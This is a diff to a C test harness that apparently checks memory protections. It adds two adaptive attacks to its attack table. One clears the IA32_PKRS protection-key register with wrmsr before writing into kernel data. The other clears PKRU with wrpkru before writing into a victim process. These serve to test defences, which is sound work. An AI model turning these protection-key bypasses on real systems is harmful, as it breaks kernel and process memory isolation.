@@ -27,6 +27,20 @@ static void write_kernel_data(void)
 	saw("stored", "uname says %s", kernel_changed() ? OWNED : "what it said before");
 }
 
+/*
+ * The adaptive one: a protection key is a bit in a register too (IA32_PKRS; where there is none, QEMU drops the write). The next way
+ * back from the kernel closes it again, so nothing may come between.
+ */
+static void write_kernel_data_key(void)
+{
+	uintptr_t data = kernel_symbol("data");
+	uint64_t owned = 0;
+
+	memcpy(&owned, OWNED, sizeof(OWNED));
+	asm volatile("cli; wrmsr; mov %0, (%1); sti" : : "r"(owned), "r"(data), "c"(0x6e1), "a"(0), "d"(0) : "memory");
+	saw("stored", "uname says %s", kernel_changed() ? OWNED : "what it said before");
+}
+
 /* `by` is what is added to the address that the kernel itself calls it by. */
 static void store_in_text(uintptr_t by)
 {
@@ -82,6 +96,17 @@ static void write_process(void)
 	}
 	strcpy((char *)v.page, OWNED);
 	saw("stored", "into process %d", v.pid);
+}
+
+/* The adaptive one, where a protection key closes it: PKRU is the program's own register. */
+static void write_process_key(void)
+{
+	struct victim v;
+
+	if (!have_victim(&v))
+		return;
+	asm volatile("wrpkru" : : "a"(0), "c"(0), "d"(0) : "memory");
+	write_process();
 }
 
 #define SLACK 8192 /* pages that are the kernel's own, and not in what it says there is */
@@ -226,11 +251,13 @@ const struct attack memory_attacks[] = {
 	{"read-kernel-text", read_kernel_text},
 	{"read-kernel-data", read_kernel_data},
 	{"write-kernel-data", write_kernel_data},
+	{"write-kernel-data-key", write_kernel_data_key},
 	{"write-kernel-text", write_kernel_text},
 	{"write-kernel-text-wp", write_kernel_text_wp},
 	{"write-kernel-text-alias", write_kernel_text_alias},
 	{"read-process", read_process},
 	{"write-process", write_process},
+	{"write-process-key", write_process_key},
 	{"search-memory", search_memory},
 	{"exec-stack", exec_stack},
 	{"exec-heap", exec_heap},
